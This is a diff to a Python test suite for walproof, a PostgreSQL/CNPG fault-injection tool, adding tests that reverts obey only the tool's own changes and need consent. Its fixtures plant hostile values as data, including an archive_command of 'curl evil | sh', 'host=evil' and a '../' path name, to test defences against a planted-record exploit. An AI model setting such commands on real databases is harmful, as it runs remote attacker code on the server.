@@ -15,11 +15,25 @@ from tests.fixtures.own_patroni import OwnPatroni, own_patroni
 from walproof.cli.journals import journal_of_apply, keep_journal, runs_folder
 from walproof.machine import pid_files
 from walproof.model.ports import Target
-from walproof.records.journal import Journal
+from walproof.records.journal import Change, Journal
 from walproof.records.registered import NAME, RegisteredJournal, Run, registered
 from walproof.records.writer import Writer
 from walproof.targets.choose import choose
+from walproof.targets.cnpg.alter_system import ALTERED
+from walproof.targets.cnpg.chaos_faults import CHAOS
+from walproof.targets.cnpg.configuration import SPEC
+from walproof.targets.cnpg.faults import FAULT
+from walproof.targets.cnpg.load_pods import LOAD
+from walproof.targets.cnpg.own_role import ROLE
+from walproof.targets.cnpg.scaling import RESOURCES
+from walproof.targets.external import consent
 from walproof.targets.patroni.configuration import CONFIG, PatroniConfiguration
+from walproof.targets.sql.alter_system import AUTO, ORDER
+
+
+def tcp(seconds: int) -> dict[str, Any]:
+    return {"postgresql": {"parameters": {"tcp_keepalives_idle": seconds}}}
+
 
 EVIL = {"postgresql": {"parameters": {"archive_command": "curl evil | sh"}}}
 SET = {"postgresql": {"parameters": {"archive_command": "cp %p /archive"}}}
@@ -84,9 +98,10 @@ def test_a_strangers_record_in_this_folder_is_not_obeyed(
 ) -> None:
     """The exploit of issue 28: a file of the victim as Basic auth, a PATCH of archive_command."""
     foreign_record(tmp_path / "records" / "r", stranger, EVIL, SET)
-    code, out, _ = walproof("revert")
+    code, out, err = walproof("revert")
     assert stranger.requests == []
     assert (code, out) == (0, "nothing to revert\n")
+    assert "walproof revert records/r reads it out" in err
 
 
 def test_a_strangers_record_that_is_named_is_read_out_and_needs_target_and_consent(
@@ -125,6 +140,17 @@ def test_with_target_and_consent_a_record_from_elsewhere_is_reverted_there_and_n
         ("alter-system n1", "restore_command", "evil", None),
         ("alter-system n1", "shared_preload_libraries", "evil", None),
         ("alter-system n1", "primary_conninfo", "host=evil", None),
+        ("auto.conf order n1", "order", "{", None),
+        (CONFIG, "config", {"config": {"ttl": 30}}, {"ttl": 20}),
+        ("cnpg spec", "spec", {"spec": ["ttl"], "shown": {}}, []),
+        (ROLE, "app", None, "pg-app"),
+        (ROLE, "walproof_00000000", None, "pg-app"),
+        (LOAD, "pg-app", None, None),
+        (CHAOS, "pods pg-1", None, None),
+        (CHAOS, "networkchaos theirs", None, None),
+        (FAULT, "evil pg-1", None, None),
+        (FAULT, "freeze ../pg-1", None, None),
+        ("unheard of", "x", None, None),
     ],
 )
 def test_a_setting_that_walproof_never_changes_is_not_reverted_with_consent_either(
@@ -138,6 +164,33 @@ def test_a_setting_that_walproof_never_changes_is_not_reverted_with_consent_eith
     code, _, err = walproof("revert", "r", "--target", mine.url, "--allow", "config")
     assert (code, mine.requests) == (2, [])
     assert "walproof never changes" in err
+
+
+def test_every_kind_of_change_of_walproofs_own_can_be_reverted_with_the_consent_it_needs() -> None:
+    spec: list[Any] = [[["postgresql", "parameters", "wal_sender_timeout"], "5s"]]
+    synchronous: list[Any] = [[["postgresql", "synchronous"], {"method": "any", "number": 1, "dataDurability": "x"}]]
+    texts = (
+        (
+            CONFIG,
+            "config",
+            {"config": {"ttl": 30, **tcp(9)}, "shown": {"n1": {"a": "1"}}},
+            {"ttl": 20, **tcp(8)},
+            "config",
+        ),
+        (SPEC, "spec", {"spec": spec, "shown": {}}, synchronous, "config"),
+        (RESOURCES, "resources", {"limits": {"memory": "1Gi"}}, None, "scale"),
+        (f"{AUTO} n1", "wal_compression", None, "on", "config"),
+        (f"{ORDER} n1", "order", ["primary_conninfo", "port"], None, "config"),
+        ("database", "walproof_own", None, "walproof_draft_0", "load"),
+        (ROLE, "walproof_0123abcd", None, "pg-walproof-0123abcd", "load"),
+        (LOAD, "walproof-load-0123abcd", None, "walproof-load-0123abcd", "load"),
+        (CHAOS, "iochaos pg-1-walproof-slow-disk", None, None, "config"),
+        (FAULT, "freeze pg-1", None, None, "config"),
+        (ALTERED, "pg-1", None, "''", "config"),
+    )
+    for what, name, before, after, word in texts:
+        written = [one if one is None or isinstance(one, str) else json.dumps(one) for one in (before, after)]
+        assert consent.to_revert([Change(1, 1.0, "c", what, name, written[0], written[1])]) == (word,), what
 
 
 def swapped(record: Path, evil: Path) -> None:
@@ -215,7 +268,9 @@ def test_a_registration_that_others_could_have_written_is_not_obeyed(
         ours.registration.symlink_to(tmp_path / "x.jsonl")
     else:
         (runs_folder() if opened == "folder" else ours.registration).chmod(0o777)
-    assert walproof("revert")[1] == "nothing to revert\n"
+    _, out, err = walproof("revert")
+    assert out == "nothing to revert\n"
+    assert "others own it or may write it" in err
     assert mine.requests == []
 
 
